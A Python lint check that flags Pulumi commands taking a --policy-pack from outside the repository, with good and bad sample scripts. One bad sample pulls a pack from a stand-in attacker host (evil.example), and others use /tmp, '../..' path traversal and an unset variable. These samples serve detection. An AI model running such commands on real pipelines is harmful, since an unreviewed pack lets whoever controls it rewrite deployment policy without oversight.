"""A pack comes from a place that nobody has reviewed with the program.

What: --policy-pack with an address, an absolute path, a path that leaves the
    repository, or a variable; and packs kept by a service (org/name).
Why: whoever can change the pack can change the law; inside the repository the pack
    is part of the commit that was reviewed, and the commit is its digest.
Fix: name the packs of this repository.
Source: clauses A35 and A36; rule list, hard case H28.
"""

import re
from collections.abc import Iterator

from policies.outside.lint.engine_command import engine_commands
from policies.outside.lint.form import Check, Hit, Kind, Sample
from policies.outside.lint.pipeline import Pipeline
from policies.text import wording

INSIDE = re.compile(r"(\./)?(?!.*\.\.)([\w.-]+/)*packs/[\w.-]+/?")
ELSEWHERE = wording(
    "takes a pack from a place that is not in this repository",
    "policies/packs/<pack>, pinned by the commit",
    "name the packs of this repository",
)


def look(pipeline: Pipeline) -> Iterator[Hit]:
    """Judge where each pack comes from."""
    for command in engine_commands(pipeline):
        for pack in command.values("--policy-pack"):
            if not INSIDE.fullmatch(pack):
                yield Hit(command.line, f"pulumi {command.verb}", ELSEWHERE)


CHECK = Check("pack_or_state_unprotected", Kind.PIPELINE, look)

GOOD = (
    Sample("run.sh", "pulumi preview --policy-pack policies/packs/residency\n"),
    Sample("run.sh", "pulumi preview --policy-pack=./policies/packs/ownership/\n"),
)
BAD = (
    Sample("run.sh", "pulumi up --policy-pack https://evil.example/pack\n"),
    Sample("run.sh", "pulumi up --policy-pack /tmp/packs/residency\n"),
    Sample("run.sh", "pulumi up --policy-pack policies/../../packs/x\n"),
    Sample("run.sh", "pulumi up --policy-pack $PACK\n"),
)
